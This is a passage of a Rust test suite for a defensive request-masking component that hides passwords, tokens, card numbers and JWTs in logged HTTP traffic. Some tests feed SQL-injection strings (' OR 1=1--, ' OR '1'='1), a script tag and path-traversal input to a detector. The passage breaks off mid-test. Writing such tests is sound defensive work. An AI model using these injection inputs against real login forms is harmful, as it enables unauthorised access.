            proptest::prop_assert!(mr.body_excerpt.len() <= 1024 + 64, "{}", mr.body_excerpt.len());
        }
    }

    #[test]
    fn graphql_inline_arguments_are_masked_by_name() {
        let m = masker();
        let body = br#"{"query":"mutation { login(user: \"bob\", password: \"hunter2x\", pin: 918273) { token } }","variables":{}}"#;
        let mr = m.mask_request(&req(
            "/graphql",
            &[("Content-Type", "application/json")],
            body,
        ));
        let out = String::from_utf8_lossy(&mr.body_excerpt).into_owned();
        assert!(
            !out.contains("hunter2x") && !out.contains("918273"),
            "{out}"
        );
        assert!(out.contains(r#"user: \"bob\""#), "{out}");
        assert!(out.contains(r#"password: \"[masked:"#), "{out}");
        // A variable reference is left; its value is masked under `variables`.
        let body =
            br#"{"query":"mutation($pw: String) { login(password: $pw) }","variables":{"pw":"x"}}"#;
        let mr = m.mask_request(&req(
            "/graphql",
            &[("Content-Type", "application/json")],
            body,
        ));
        let out = String::from_utf8_lossy(&mr.body_excerpt).into_owned();
        assert!(out.contains("login(password: $pw)"), "{out}");
    }

    #[test]
    fn xml_bodies_mask_elements_and_attributes_by_name() {
        let m = masker();
        let body: &[u8] = b"<?xml version=\"1.0\"?><soap:Envelope><soap:Body><login user=\"bob\" \
            password='hunter2a'><ns:password>hunter2b</ns:password><apiKey><v>hunter2c</v></apiKey>\
            <pin><![CDATA[hunter2d]]></pin><note>hello</note><password/></login></soap:Body></soap:Envelope>";
        let mr = m.mask_request(&req(
            "/soap",
            &[("Content-Type", "text/xml; charset=utf-8")],
            body,
        ));
        let out = String::from_utf8_lossy(&mr.body_excerpt).into_owned();
        for secret in ["hunter2a", "hunter2b", "hunter2c", "hunter2d"] {
            assert!(!out.contains(secret), "{secret} in {out}");
        }
        // Markup, other text and attributes are kept.
        for kept in [
            "<soap:Envelope>",
            "user=\"bob\"",
            "<note>hello</note>",
            "<password/>",
            "<![CDATA[",
        ] {
            assert!(out.contains(kept), "{kept} missing from {out}");
        }
        assert!(out.contains("<ns:password>[masked:"), "{out}");
        // Without a content type, a body that starts with `<` is XML too.
        let mr = m.mask_request(&req("/", &[], b"<a><secret>s3cr3t-xml</secret></a>"));
        assert!(!String::from_utf8_lossy(&mr.body_excerpt).contains("s3cr3t-xml"));
    }

    #[test]
    fn json_body_masks_by_key_and_below() {
        let m = masker();
        let body = br#"{"user":"bob","password":"s3cr\"et","api_key":12345,"card":{"number":"x","n":[1,"y"]},"list":[{"token":"T"}],"ok":true}"#;
        let mr = m.mask_request(&req("/", &[("Content-Type", "application/json")], body));
        let want = format!(
            r#"{{"user":"bob","password":"{}","api_key":"{}","card":{{"number":"x","n":[1,"y"]}},"list":[{{"token":"{}"}}],"ok":true}}"#,
            t(&m, r#"s3cr\"et"#),
            t(&m, "12345"),
            t(&m, "T")
        );
        assert_eq!(s(&mr.body_excerpt), want);
        // Nested under a masked key: everything inside.
        let mr = m.mask_request(&req("/", &[], br#"{"credentials":{"u":"a","p":["b",2]}}"#));
        assert_eq!(
            s(&mr.body_excerpt),
            format!(
                r#"{{"credentials":{{"u":"{}","p":["{}","{}"]}}}}"#,
                t(&m, "a"),
                t(&m, "b"),
                t(&m, "2")
            )
        );
    }

    #[test]
    fn broken_json_never_panics_and_still_masks() {
        let m = masker();
        for body in [
            &br#"{"password":"abc"#[..],
            br#"{"password""#,
            br#"{"password":"#,
            br#"{"a":"\"#,
            br#"]]]}}}{"password":1"#,
            b"{\xff\xfe\"password\":\"\xc3\"}",
            br#"""#,
            b"[",
        ] {
            let mr = m.mask_request(&req("/", &[("Content-Type", "application/json")], body));
            assert!(!s(&mr.body_excerpt).contains("abc"));
        }
        let deep = format!("{}\"password\"{}", "[".repeat(300), "]".repeat(300));
        let mr = m.mask_request(&req("/", &[], deep.as_bytes()));
        assert!(
            !s(&mr.body_excerpt).contains("\"password\""),
            "deep values are masked"
        );
    }

    #[test]
    fn multipart_fields_by_name() {
        let m = masker();
        let body = b"--XX\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nbob\r\n--XX\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nhunter2\r\n--XX--\r\n";
        let mr = m.mask_request(&req(
            "/",
            &[("Content-Type", "multipart/form-data; boundary=XX")],
            body,
        ));
        let want = format!(
            "--XX\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nbob\r\n--XX\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n{}\r\n--XX--\r\n",
            t(&m, "hunter2")
        );
        assert_eq!(s(&mr.body_excerpt), want);
        // Cut before the closing delimiter: masked to the end.
        let mr = m.mask_request(&req(
            "/",
            &[("Content-Type", "multipart/form-data; boundary=XX")],
            b"--XX\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nhunter2",
        ));
        assert!(!s(&mr.body_excerpt).contains("hunter2"));
    }

    #[test]
    fn timestamps_and_ids_are_not_cards() {
        let m = masker_with(|_| {});
        // 13-digit millisecond timestamp passing Luhn; 16-digit id starting with 1.
        for n in ["1316355691345", "1234567812345670"] {
            assert!(
                luhn(n.as_bytes()),
                "{n} passes Luhn: only the brand check keeps it"
            );
            let mr = m.mask_request(&req("/", &[], format!("id {n} ok").as_bytes()));
            assert_eq!(mr.body_excerpt, format!("id {n} ok").into_bytes(), "{n}");
        }
        assert!(card_brand_length(b"4111111111111111"));
        assert!(card_brand_length(b"378282246310005"));
        assert!(card_brand_length(b"5500000000000004"));
        assert!(!card_brand_length(b"1316355691345"));
    }

    #[test]
    fn card_numbers_pass_luhn() {
        let m = masker();
        assert!(luhn(b"4111111111111111"));
        assert!(!luhn(b"4111111111111112"));
        let u =
            m.mask_uri(b"/pay?note=4111-1111-1111-1111&id=4111111111111112&ts=x4111111111111111");
        assert_eq!(
            s(&u),
            format!(
                "/pay?note={}&id=4111111111111112&ts=x4111111111111111",
                t(&m, "4111111111111111")
            )
        );
        let mr = m.mask_request(&req("/", &[], b"card 5500 0000 0000 0004 ok"));
        assert_eq!(
            s(&mr.body_excerpt),
            format!("card {} ok", t(&m, "5500000000000004"))
        );
        let off = masker_with(|c| c.card_numbers = false);
        assert_eq!(
            off.mask_uri(b"/?n=4111111111111111"),
            b"/?n=4111111111111111"
        );
    }

    #[test]
    fn matched_at_a_masked_point_is_masked() {
        let m = masker();
        let r = req(
            "/login?password=%27%20OR%201%3D1--",
            &[("Cookie", "sid=x' or 1=1")],
            b"",
        );
        let mr = m.mask_request(&r);
        assert_eq!(
            m.mask_matched(&mr, "query:password", b"' OR 1=1--", 256),
            m.token(b"' OR 1=1--")
        );
        assert_eq!(
            m.mask_matched(&mr, "cookie:sid", b"x' or 1=1", 256),
            m.token(b"x' or 1=1")
        );
        assert_eq!(
            m.mask_matched(&mr, "body:json:user.password", b"x", 256),
            m.token(b"x")
        );
        assert_eq!(
            m.mask_matched(&mr, "query:q", b"<script>", 256),
            b"<script>"
        );
        assert_eq!(m.mask_matched(&mr, "path", b"../../", 256), b"../../");
        // Not a masked point, but the clear secret shows: swept.
        let raw = b"/login?password=%27%20OR%201%3D1--";
        let got = m.mask_matched(&mr, "uri", raw, 256);
        assert!(!s(&got).contains("%27%20OR%201%3D1--"), "{}", s(&got));
        assert!(m.location_masked("header:Authorization"));
        assert!(!m.location_masked("header:User-Agent"));
    }

    #[test]
    fn secrets_seen_elsewhere_are_swept() {
        let m = masker();
        let r = req(
            "/logout/SESSION-ABCDEF",
            &[
                ("Cookie", "sid=SESSION-ABCDEF"),
                ("X-Debug", "was SESSION-ABCDEF"),
            ],
            b"raw SESSION-ABCDEF text",
        );
        let mr = m.mask_request(&r);
        let tok = t(&m, "SESSION-ABCDEF");
        assert_eq!(s(&mr.uri), format!("/logout/{tok}"));
        assert_eq!(header(&mr, "x-debug"), format!("was {tok}"));
        assert_eq!(s(&mr.body_excerpt), format!("raw {tok} text"));
    }

    #[test]
    fn excerpt_is_cut_on_a_boundary_never_inside_a_mask() {
        let m = masker_with(|c| c.body_excerpt_bytes = 12);
        let mr = m.mask_request(&req("/", &[], b"a=1&password=xyz&b=2"));
        // "a=1&password" is 12 bytes; the mask after "=" would cross the cut.
        assert_eq!(s(&mr.body_excerpt), "a=1&password");
        let m = masker_with(|c| c.body_excerpt_bytes = 3);
        let mr = m.mask_request(&req("/", &[], "aéb".as_bytes()));
        assert_eq!(s(&mr.body_excerpt), "a\u{e9}");
        let mr = m.mask_request(&req("/", &[], "ééé".as_bytes()));
        assert_eq!(s(&mr.body_excerpt), "\u{e9}");
        let m = masker_with(|c| c.body_excerpt_bytes = 0);
        assert!(m
            .mask_request(&req("/", &[], b"abc"))
            .body_excerpt
            .is_empty());
        let tok = masker().token(b"x");
        for cut in 0..tok.len() {
            let c = cut_excerpt(&tok, cut);
            assert_eq!(c, 0, "cut {cut}");
        }
    }

    #[test]
    fn excerpt_masks_values_straddling_the_cut_whole() {
        let m = masker_with(|c| c.body_excerpt_bytes = 40);
        let body = format!("pad={}&password=hunter2hunter2", "x".repeat(20));
        let mr = m.mask_request(&req("/", &[], body.as_bytes()));
        assert!(
            !s(&mr.body_excerpt).contains("hunter"),
            "{}",
            s(&mr.body_excerpt)
        );
        assert!(mr.body_excerpt.len() <= 40);
    }

    #[test]
    fn disabled_masks_nothing() {
        let m = masker_with(|c| c.enabled = false);
        let r = req(
            "/?password=p",
            &[("Authorization", "Basic abc"), ("Cookie", "sid=1")],
            b"password=p",
        );
        let mr = m.mask_request(&r);
        assert_eq!(mr.uri, b"/?password=p");
        assert_eq!(header(&mr, "authorization"), "Basic abc");
        assert_eq!(mr.body_excerpt, b"password=p");
        assert_eq!(m.mask_matched(&mr, "query:password", b"p", 256), b"p");
        assert_eq!(m.mask_uri(b"/?password=p"), b"/?password=p");
        // The excerpt is still text: a gzip body inflated, another coding
        // named, as with masking on.
        let gz = gzip(b"user=bob&password=p");
        let mr = m.mask_request(&req("/", &[("Content-Encoding", "gzip")], &gz));
        assert_eq!(mr.body_excerpt, b"user=bob&password=p");
        let mr = m.mask_request(&req("/", &[("Content-Encoding", "br")], b"\x0b\x02\x80"));
        assert!(
            s(&mr.body_excerpt).starts_with("[body: br, "),
            "{}",
            s(&mr.body_excerpt)
        );
        // No excerpt wanted: not even the placeholder.
        let m = masker_with(|c| {
            c.enabled = false;
            c.body_excerpt_bytes = 0;
        });
        let mr = m.mask_request(&req("/", &[("Content-Encoding", "br")], b"\x0b\x02\x80"));
        assert_eq!(mr.body_excerpt, b"");
    }

    #[test]
    fn replace_and_keep_lists() {
        let m = masker_with(|c| {
            c.params = Some(vec!["only_this".into()]);
            c.extra_params = vec!["*Ssn".into()];
        });
        assert!(m.param_masked(b"ONLY-THIS"));
        assert!(m.param_masked(b"user_ssn"));
        assert!(!m.param_masked(b"password"));
        let m = masker_with(|c| c.keep = vec!["csrf_token".into()]);
        assert!(!m.param_masked(b"csrf_token"));
        assert!(m.param_masked(b"token"));
        // `*` (here spelt `-*_`) masks every parameter; an empty pattern none.
        let m = masker_with(|c| c.params = Some(vec!["-*_".into(), "".into()]));
        assert!(m.param_masked(b"q") && m.param_masked(b"id"));
        let m = masker_with(|c| c.params = Some(vec!["".into()]));
        assert!(!m.param_masked(b"q") && !m.param_masked(b"password"));
        // The default masker masks with the built-in lists.
        assert!(Masker::default().param_masked(b"password"));
        assert!(Masker::default().header_masked(b"Authorization"));
    }

    /// Answers remembered per thread belong to the masker that computed
    /// them, stay right past the memo's capacity, and long names bypass it.
    #[test]
    fn remembered_name_answers_belong_to_their_masker() {
        let only = masker_with(|c| c.params = Some(vec!["only_this".into()]));
        let default = Masker::default();
        for _ in 0..3 {
            assert!(!only.param_masked(b"password"));
            assert!(default.param_masked(b"password"));
            assert!(only.param_masked(b"only-this"));
            assert!(!default.param_masked(b"only-this"));
            // A header pattern and a parameter pattern are separate lists.
            assert!(default.header_masked(b"Cookie"));
            assert!(!default.param_masked(b"Cookie"));
        }
        for i in 0..(NAME_MEMO_MAX + 10) {
            assert!(!default.param_masked(format!("field{i}").as_bytes()));
        }
        assert!(default.param_masked(b"password"));
        let long = format!("{}password", "x".repeat(NAME_MEMO_MAX_NAME));
        assert!(default.param_masked(long.as_bytes()));
        assert!(!only.param_masked(long.as_bytes()));
    }

    #[test]
    fn key_material_from_file() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("k");
        std::fs::write(&p, "0123456789abcdef0123\n").unwrap();
        let k1 = Masker::key_from_file(&p).unwrap();
        std::fs::write(&p, "0123456789abcdef0123").unwrap();
        assert_eq!(Masker::key_from_file(&p).unwrap(), k1, "trimmed");
        std::fs::write(&p, "short").unwrap();
        assert!(matches!(
            Masker::key_from_file(&p),
            Err(MaskError::KeyTooShort { len: 5, .. })
        ));
        assert!(matches!(
            Masker::key_from_file(&dir.path().join("missing")),
            Err(MaskError::KeyFile { .. })
        ));
        let dbg = format!("{:?}", masker());
        assert!(!dbg.contains("7, 7"), "the key never shows: {dbg}");
    }

    #[test]
    fn odd_input_never_panics() {
        let m = masker();
        let odd: &[&[u8]] = &[
            b"",
            b"?",
            b"&",
            b"=",
            b"==",
            b"%",
            b"%%7",
            b"pass%77ord",
            b";",
            b";=",
            b"/;a;b=;c",
            b"\xff\xfe=\xff",
            b"password=\xff",
            b"?password",
            b"#?password=x",
        ];
        for o in odd {
            let _ = m.mask_uri(o);
            let _ = m.mask_request(&req(
                &String::from_utf8_lossy(o),
                &[
                    ("Cookie", &String::from_utf8_lossy(o)),
                    ("Authorization", " "),
                ],
                o,
            ));
            let mr = m.mask_request(&req(
                "/",
                &[("Content-Type", "multipart/form-data; boundary=")],
                o,
            ));
            let _ = m.mask_matched(&mr, &String::from_utf8_lossy(o), o, 3);
        }
    }

    /// A decoded layer of a masked point (`:base64`, `:jwt.*`)
    /// is the same secret, so its location is masked too; and the sweep
    /// knows the base64-decoded form of a masked value.
    #[test]
    fn decoded_layer_locations_are_masked() {
        let m = masker();
        for loc in [
            "query:pwd:base64",
            "query:pass:base64",
            "header:X-Signing-Key:base64",
            "header:Authorization:jwt.header",
            "header:Authorization:jwt.payload",
            "cookie:sid:jwt.payload",
            "body:pin:base64",
            "body:json:user.pass:base64",
        ] {
            assert!(m.location_masked(loc), "{loc}");
        }
        for loc in ["query:q:base64", "header:User-Agent:jwt.payload", "path"] {
            assert!(!m.location_masked(loc), "{loc}");
        }
        // A hit quoting the whole decoded value gets the token of the value
        // as sent, the one its header shows: one secret, one token.
        let mr = m.mask_request(&req("/", &[("X-Signing-Key", "czNjcjN0LWJ5dGVz")], b""));
        assert_eq!(
            m.mask_matched(&mr, "header:X-Signing-Key:base64", b"s3cr3t-bytes", 256),
            m.token(b"czNjcjN0LWJ5dGVz")
        );
        assert!(mr
            .headers
            .iter()
            .any(|(_, v)| *v == m.token(b"czNjcjN0LWJ5dGVz")));
        // Part of it only: a token of its own (still no clear bytes).
        assert_eq!(
            m.mask_matched(&mr, "header:X-Signing-Key:base64", b"s3cr3t", 256),
            m.token(b"s3cr3t")
        );
        // base64("hunter2-secret") under a masked name; its clear form met
        // at a point that is not masked is swept.
        let mr = m.mask_request(&req("/?pwd=aHVudGVyMi1zZWNyZXQ=", &[], b""));
        let got = m.mask_matched(&mr, "query:q", b"x hunter2-secret y", 256);
        assert!(!s(&got).contains("hunter2-secret"), "{}", s(&got));
        assert_eq!(s(&got), format!("x {} y", t(&m, "aHVudGVyMi1zZWNyZXQ=")));
    }

    /// `+`, `%20` (a space in form and URL encodings) and `%2D`
    /// (a dash) between digit groups; the Luhn check still applies.
    #[test]
    fn card_numbers_with_encoded_separators() {
        let m = masker();
        let tok = t(&m, "4111111111111111");
        for (sent, want) in [
            ("/p?card=4111+1111+1111+1111", format!("/p?card={tok}")),
            (
                "/p?card=4111%201111%201111%201111",
                format!("/p?card={tok}"),
            ),
            (
                "/p?card=4111%2D1111%2d1111-1111&x=1",
                format!("/p?card={tok}&x=1"),
            ),
            // Fails Luhn: kept.
            (
                "/p?n=4111+1111+1111+1112",
                "/p?n=4111+1111+1111+1112".to_string(),
            ),
            // Two separators in a row are not one number.
            (
                "/p?n=4111++1111+1111+1111",
                "/p?n=4111++1111+1111+1111".to_string(),
            ),
        ] {
            assert_eq!(s(&m.mask_uri(sent.as_bytes())), want, "{sent}");
        }
        let mr = m.mask_request(&req(
            "/pay",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"card_num=5500+0000+0000+0004&ok=1",
        ));
        assert_eq!(
            s(&mr.body_excerpt),
            format!("card_num={}&ok=1", t(&m, "5500000000000004"))
        );
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    /// An encoded body is never stored as its compressed bytes
    /// (which inflate to the clear secrets): gzip/deflate are inflated
    /// (bounded) and masked like any body; other codings become a
    /// placeholder.
    #[test]
    fn encoded_bodies_are_inflated_and_masked_or_replaced() {
        let m = masker();
        let form = ("Content-Type", "application/x-www-form-urlencoded");
        let gz = gzip(b"user=bob&password=hunter2");
        let mr = m.mask_request(&req("/", &[("Content-Encoding", "gzip"), form], &gz));
        assert!(!mr.body_excerpt.starts_with(&[0x1f, 0x8b]), "no gzip bytes");
        assert_eq!(
            s(&mr.body_excerpt),
            format!("user=bob&password={}", t(&m, "hunter2"))
        );
        // The inflated secret is known to the sweep (a hit's `matched`).
        let got = m.mask_matched(&mr, "body", b"password=hunter2", 256);
        assert!(!s(&got).contains("hunter2"), "{}", s(&got));
        // gzip applied twice, and deflate.
        let mr = m.mask_request(&req(
            "/",
            &[("Content-Encoding", "gzip, GZIP"), form],
            &gzip(&gz),
        ));
        assert!(!s(&mr.body_excerpt).contains("hunter2"));
        assert!(s(&mr.body_excerpt).starts_with("user=bob&password=[masked:"));
        // A coding that is not inflated, and one that does not inflate.
        for (enc, body) in [
            ("br", &b"\x0b\x02\x80password=hunter2"[..]),
            ("gzip", b"password=hunter2"),
        ] {
            let mr = m.mask_request(&req("/", &[("Content-Encoding", enc), form], body));
            assert_eq!(
                s(&mr.body_excerpt),
                format!("[body: {enc}, {} bytes]", body.len()),
                "{enc}"
            );
        }
        // identity is no coding at all.
        let mr = m.mask_request(&req("/", &[("Content-Encoding", " Identity ")], b"a=1"));
        assert_eq!(mr.body_excerpt, b"a=1");
        // An odd coding name is not copied into the record.
        let mr = m.mask_request(&req("/", &[("Content-Encoding", "x\"y<z")], b"abc"));
        assert_eq!(s(&mr.body_excerpt), "[body: ?, 3 bytes]");
    }

    /// URL userinfo (`scheme://user:pass@host`): the password
    /// is masked (a bare userinfo, often a token, wholly) in the target,
    /// header values and the body, and known to the sweep.
    #[test]
    fn url_userinfo_is_masked() {
        let m = masker();
        assert_eq!(
            s(&m.mask_uri(b"http://bob:hunter2@h.test/x?q=1")),
            format!("http://bob:{}@h.test/x?q=1", t(&m, "hunter2"))
        );
        assert_eq!(
            s(&m.mask_uri(b"https://ghp_TOKEN123@h.test/")),
            format!("https://{}@h.test/", t(&m, "ghp_TOKEN123"))
        );
        // An `@` in the path is no userinfo.
        assert_eq!(
            m.mask_uri(b"https://h.test/@bob:x"),
            b"https://h.test/@bob:x"
        );
        assert_eq!(m.mask_uri(b"/a?next=/@x"), b"/a?next=/@x");
        let mr = m.mask_request(&req(
            "http://bob:p%40ss99@proxy.test/",
            &[
                ("Referer", "https://amy:refpass1@a.test/cb?x=1"),
                ("Origin", "https://ann:origpass@o.test"),
                ("Destination", "http://u:davpass1@d.test/f"),
            ],
            br#"{"cb":"ftp://joe:bodypass@f.test/"}"#,
        ));
        assert_eq!(
            s(&mr.uri),
            format!("http://bob:{}@proxy.test/", t(&m, "p@ss99"))
        );
        assert_eq!(
            header(&mr, "referer"),
            format!("https://amy:{}@a.test/cb?x=1", t(&m, "refpass1"))
        );
        assert_eq!(
            header(&mr, "origin"),
            format!("https://ann:{}@o.test", t(&m, "origpass"))
        );
        assert!(!header(&mr, "destination").contains("davpass1"));
        assert!(
            !s(&mr.body_excerpt).contains("bodypass"),
            "{}",
            s(&mr.body_excerpt)
        );
        // A hit's `matched` that quotes the target.
        let got = m.mask_matched(&mr, "uri", b"http://bob:p%40ss99@proxy.test/", 256);
        assert!(!s(&got).contains("ss99"), "{}", s(&got));
        let got = m.mask_matched(&mr, "query:next", b"http://x:pw@y/", 256);
        assert!(!s(&got).contains(":pw@"), "{}", s(&got));
        // Each scan stops at the next `://` (its `/` ends an authority), so
        // many of them cost linear time.
        let many = format!("http://{}u:pw@h/", "a://".repeat(20_000));
        let got = m.mask_uri(many.as_bytes());
        assert!(s(&got).ends_with(&format!("u:{}@h/", t(&m, "pw"))));
    }

    /// A hit whose location is a field the body excerpt masks must have its
    /// `matched` masked whole (as `query:password`, `body:json:pin`): a
    /// legitimate password that trips a rule is otherwise stored in clear.
    /// XML elements (`body:xml:/login/pass`) and GraphQL arguments
    /// (`body:graphql:arg:pin`) are masked in the excerpt by their local
    /// name, but `location_masked` matches exact patterns (`pass`, `pin`,
    /// `otp`, `sid`, `auth`, `cc`, `pan`, `cvv*`, `cvc*`) against the whole
    /// `xml:/login/pass` / `graphql:arg:pin`, and neither `/` nor `:`
    /// splits a segment.
    #[test]
    fn review13_xml_and_graphql_secret_fields_mask_matched() {
        use crate::detect::{DetectLimits, DetectStats, Detector, RuleSet};
        let m = masker();
        let d = Detector::new(&RuleSet::builtin(), DetectLimits::default());
        let cases: [(&str, &[u8], &str); 3] = [
            (
                "text/xml",
                b"<login><user>bob</user><pass>Tr0ub4dor' OR '1'='1</pass></login>",
                "/pass",
            ),
            (
                "text/xml",
                b"<login user=\"bob\" pin=\"9182' OR '1'='1\"/>",
                "@pin",
            ),
            (
                "application/json",
                br#"{"query":"mutation { login(user: \"bob\", pin: \"9182' OR '1'='1\") { token } }"}"#,
                "arg:pin",
            ),
        ];
        let mut leaks = Vec::new();
        for (ct, body, field) in cases {
            let r = req("/login", &[("Content-Type", ct)], body);
            let mr = m.mask_request(&r);
            // The excerpt masks the field.
            let excerpt = s(&mr.body_excerpt);
            assert!(!excerpt.contains("' OR '1'='1"), "{excerpt}");
            let mut stats = DetectStats::default();
            let mut hits = Vec::new();
            d.inspect(&r, &mut stats, &mut hits);
            let at_field: Vec<_> = hits
                .iter()
                .filter(|h| h.location.ends_with(field))
                .collect();
            assert!(!at_field.is_empty(), "no hit at {field}: {hits:?}");
            for h in at_field {
                let got = m.mask_matched(&mr, &h.location, &h.matched, 256);
                if got != m.token(&h.matched) {
                    leaks.push(format!("{} {} -> {}", h.rule_id, h.location, s(&got)));
                }
            }
        }
        assert!(
            leaks.is_empty(),
            "matched of a masked field stored in clear:\n{}",
            leaks.join("\n")
        );
    }

    /// Review 15: a hit at a point that is not masked may quote part of a
    /// masked value. The raw XML body is a point beside its elements (an
    /// XSS across elements only shows there), so a password element that
    /// trips a rule is hit twice: at `body:xml:/login/pass` (masked whole
    /// since round 13) and at `body`, whose `matched` is swept only for
    /// whole secrets: the fragment the rule matched (`' OR '1'=`) is stored
    /// in clear. The same happens for a password in the query of a
    /// `Referer` (a GET login form) and for a JSON body sent with a BOM
    /// (inspected raw, see the detection review).
    #[test]
    fn review15_matched_fragment_of_masked_value_is_masked() {
        use crate::detect::{DetectLimits, DetectStats, Detector, RuleSet};
        let m = masker();
        let d = Detector::new(&RuleSet::builtin(), DetectLimits::default());
        let secret = "Tr0ub4dor' OR '1'='1";
        type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, Vec<u8>);
        let cases: Vec<Case> = vec![
            (
                "/login",
                vec![("Content-Type", "text/xml")],
                format!("<login><user>bob</user><pass>{secret}</pass></login>").into_bytes(),
            ),
            (
                "/welcome",
                vec![(
                    "Referer",
                    "https://shop.test/login?user=bob&password=Tr0ub4dor%27%20OR%20%271%27%3D%271",
                )],
                Vec::new(),
            ),
            (
                "/login",
                vec![("Content-Type", "application/json")],
                format!("\u{feff}{{\"user\":\"bob\",\"password\":\"{secret}\"}}").into_bytes(),
            ),
        ];
        let mut leaks = Vec::new();
        for (uri, headers, body) in &cases {
            let r = req(uri, headers, body);
            let mr = m.mask_request(&r);
            let mut stats = DetectStats::default();
            let mut hits = Vec::new();
            d.inspect(&r, &mut stats, &mut hits);
            assert!(!hits.is_empty(), "{uri}: no hit");
            for h in &hits {
                let got = s(&m.mask_matched(&mr, &h.location, &h.matched, 256));
                // Any 6 bytes of the password in clear.
                let clear = (0..=secret.len() - 6).any(|i| got.contains(&secret[i..i + 6]));
                if clear {
                    leaks.push(format!("{uri}: {} at {} -> {got}", h.rule_id, h.location));
                }
            }
        }
        assert!(
            leaks.is_empty(),
            "part of a masked password stored in clear in `matched`:\n{}",
            leaks.join("\n")
        );
    }

    /// A JSON body that starts with a byte order mark is still masked by
    /// key (it went through the form scan, which found no `=`).
    #[test]
    fn json_body_after_a_byte_order_mark_is_masked() {
        let m = masker();
        let body = "\u{feff}{\"user\":\"bob\",\"password\":\"Hunter2Secret\"}";
        let r = req("/login", &[("Content-Type", "text/plain")], body.as_bytes());
        let mr = m.mask_request(&r);
        assert!(
            !s(&mr.body_excerpt).contains("Hunter2Secret"),
            "{}",
            s(&mr.body_excerpt)
        );
    }

    /// Review 15: Rack 2 (`DEFAULT_SEP = /[&;] */n`), Rails'
    /// ActionDispatch::QueryParser (7.1/7.2, deprecated separator), Perl
    /// CGI.pm (which writes `;` in its own URLs) and Python before 3.9.2
    /// (`parse_qsl`) split a query at `;` as at `&`. Masking splits the
    /// query at `&` only (and `;` only in the path), so
    /// `?user=bob;password=…` keeps the password in clear in the target of
    /// every record, in a `Referer`, and in `matched` (detection names the
    /// point `query:user`).
    #[test]
    fn review15_semicolon_separated_query_is_masked() {
        let m = masker();
        let secret = "Hunter2Secret";
        let u = s(&m.mask_uri(format!("/login?user=bob;password={secret}").as_bytes()));
        let mr = m.mask_request(&req(
            &format!("/login?user=bob;password={secret}"),
            &[(
                "Referer",
                &format!("https://a.test/login?user=bob;password={secret}"),
            )],
            b"",
        ));
        let referer = header(&mr, "referer");
        let matched = s(&m.mask_matched(
            &mr,
            "query:user",
            format!("bob;password={secret}").as_bytes(),
            256,
        ));
        for (what, text) in [
            ("mask_uri", &u),
            ("uri", &s(&mr.uri)),
            ("referer", &referer),
            ("matched", &matched),
        ] {
            assert!(!text.contains(secret), "{what}: {text}");
        }
    }

    /// Review 15: common names of secret parameters that no default
    /// pattern matches, so their values are stored in clear: `psw` (the
    /// W3Schools login form every tutorial copies: `<input type="password"
    /// name="psw">`), `pw`, and `sig` (the signature of an Azure Storage
    /// SAS URL, `?sv=…&sp=r&sig=…`, which grants access by itself; AWS's
    /// `X-Amz-Signature` and Google's `X-Goog-Signature` are masked).
    #[test]
    fn review15_common_secret_parameter_names_are_masked() {
        let m = masker();
        let mr = m.mask_request(&req(
            "/blob/a.pdf?sv=2022-11-02&sr=b&sp=r&sig=pSmLrL3tYbTk3x9Zq%2FQ1v%2BabcDEF0123456789xyzw%3D",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"uname=bob&psw=W3sch00lsPass&pw=Sh0rtPwValue",
        ));
        let all = format!("{} {}", s(&mr.uri), s(&mr.body_excerpt));
        for secret in ["W3sch00lsPass", "Sh0rtPwValue", "pSmLrL3tYbTk3x9Zq"] {
            assert!(!all.contains(secret), "{secret} in clear: {all}");
        }
    }

    /// Bearer credentials under names no earlier pattern matched: a JWT in
    /// a link or WebSocket URL (`?jwt=`, `access_jwt`), an API key as
    /// `?key=` (Google Maps, YouTube Data and many others), a bearer
    /// `assertion` (RFC 7521) and a `SAMLResponse`. A name that only
    /// contains `key` (`monkey`, `keyword`) stays clear.
    #[test]
    fn bearer_parameter_names_are_masked() {
        let m = masker();
        let mr = m.mask_request(&req(
            "/ws?jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlQUJD&key=AIzaSyA1b2C3d4E5f6&keyword=shoes&monkey=bananas",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"grant_type=jwt-bearer&assertion=eyJhbGciOiJSUzI1NiJ9.QVNTRVJU.U0lH&access_jwt=QUNDRVNTSldU&SAMLResponse=PHNhbWxwOlJlc3BvbnNl",
        ));
        let all = format!("{} {}", s(&mr.uri), s(&mr.body_excerpt));
        for secret in [
            "c2lnbmF0dXJlQUJD",
            "AIzaSyA1b2C3d4E5f6",
            "QVNTRVJU",
            "QUNDRVNTSldU",
            "PHNhbWxwOlJlc3BvbnNl",
        ] {
            assert!(!all.contains(secret), "{secret} in clear: {all}");
        }
        for clear in ["keyword=shoes", "monkey=bananas", "grant_type=jwt-bearer"] {
            assert!(all.contains(clear), "{clear} masked: {all}");
        }
    }

    /// Review 16. Defect: only `Referer` has its query masked; every other
    /// header gets only the userinfo of a `scheme://` URL. Proxies put the
    /// client's original target, query included, in headers of the request
    /// they forward: nginx `auth_request` (`X-Original-URI $request_uri`, the
    /// documented setup), Traefik ForwardAuth (`X-Forwarded-Uri`), IIS ARR
    /// and URL Rewrite (`X-Original-URL`, `X-Rewrite-URL`, which Symfony,
    /// Laminas and Drupal read as the request target), Envoy
    /// (`X-Envoy-Original-Path`). A sensor behind such a proxy (the
    /// deployment `--trusted-proxy` exists for) stores
    /// `?password=…&access_token=…` of every attack request in clear in the
    /// record's headers; the sweep does not help when the subrequest's own
    /// target (`/auth`) does not carry the secret. Severity: Medium.
    #[test]
    fn review16_original_target_headers_mask_query_secrets() {
        let m = masker();
        let target = "/login?user=bob&password=Hunter2Secret&access_token=ya29.A0ARrdaM-TokenValue";
        let mut leaks = Vec::new();
        for name in [
            "X-Original-URI",
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-Forwarded-Uri",
            "X-Envoy-Original-Path",
        ] {
            let mr = m.mask_request(&req(
